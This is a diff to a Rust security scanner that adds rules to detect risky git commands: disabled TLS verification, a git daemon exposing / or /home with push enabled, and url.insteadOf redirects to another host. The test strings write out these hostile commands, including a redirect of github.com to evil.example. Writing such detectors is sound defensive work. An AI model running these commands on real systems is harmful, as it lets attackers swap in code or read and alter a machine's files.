@@ -6,8 +6,9 @@ mod push;
 use super::{Hit, Rule, Shelf, When, effects};
 use crate::{
     address::host_of,
-    effect::{Kinds, WriteMode},
+    effect::{Argument, Kinds, WriteMode},
     finding::{Category, Confidence},
+    programs::Options,
     risk::Severity,
 };
 
@@ -412,6 +413,33 @@ static RULES: &[Rule] = &[
         ..Rule::LOSS
     },
     Rule {
+        id: "git.trust.off",
+        category: Category::Evasion,
+        severity: Severity::Medium,
+        reversible: true,
+        message: "git would take code without checking whose server it comes from",
+        remedy: "give git the certificate: `git -c http.sslCAInfo=ca.pem fetch`",
+        when: When::Command(&[
+            "git -c=http.sslVerify=false|-c=http.sslVerify=0|-c=http.sslverify=false",
+        ]),
+        fires: &["git -c http.sslVerify=false clone https://github.com/a/b"],
+        quiet: &["git -c http.sslVerify=true fetch", "git -c core.pager=cat log"],
+        ..Rule::LOSS
+    },
+    Rule {
+        id: "git.daemon.open",
+        category: Category::Exfiltration,
+        severity: Severity::High,
+        message: "everybody who reaches this machine may push into its repositories, or fetch whatever lies below",
+        remedy: "serve one repository to read: `git daemon --base-path=. --export-all --listen=127.0.0.1`",
+        when: When::Command(&[
+            "git daemon --enable=receive-pack|--base-path=/|--base-path=/home|--base-path=/home/*",
+        ]),
+        fires: &["git daemon --export-all --base-path=/ --enable=receive-pack"],
+        quiet: &["git daemon --base-path=. --export-all --listen=127.0.0.1"],
+        ..Rule::LOSS
+    },
+    Rule {
         id: "git.config.redirect",
         category: Category::Evasion,
         severity: Severity::High,
@@ -420,6 +448,18 @@ static RULES: &[Rule] = &[
         remedy: "write the address of the server that is meant",
         when: When::Effect(Kinds::RUN, |effect, _| {
             let run = effects::run(effect).filter(|run| run.program == "git")?;
+            // `git -c url.…insteadOf=…` for one command, fetched and run as much as for all.
+            let redirects = |setting: Argument| {
+                let setting = setting.text.as_known()?.to_ascii_lowercase();
+                let (key, from) = setting.split_once('=')?;
+                let key = key.strip_prefix("url.")?;
+                let to = key.strip_suffix(".insteadof")?;
+                (host_of(to) != host_of(from)).then_some(())
+            };
+            let settings = Options::new(&run.arguments, &["-c", "--config"]);
+            if settings.values_of(&["-c", "--config"]).any(|it| redirects(it).is_some()) {
+                return Some(Hit::default());
+            }
             let mut words = effects::words(run).skip_while(|word| *word != "config");
             words.next()?;
             let mut words = words.filter(|word| !word.starts_with('-'));
@@ -435,9 +475,13 @@ static RULES: &[Rule] = &[
             };
             (to != host_of(from)).then(Hit::default)
         }),
-        fires: &["git config --global url.https://evil.example/.insteadOf https://github.com/"],
+        fires: &[
+            "git config --global url.https://evil.example/.insteadOf https://github.com/",
+            "git -c url.https://evil.example/.insteadOf=https://github.com/ pull",
+        ],
         quiet: &[
             "git config --global url.git@github.com:.insteadOf https://github.com/",
+            "git -c url.git@github.com:.insteadOf=https://github.com/ pull",
             "git config --global url.ssh://git@gitlab.example.com/.insteadOf https://gitlab.example.com/",
         ],
         ..Rule::LOSS
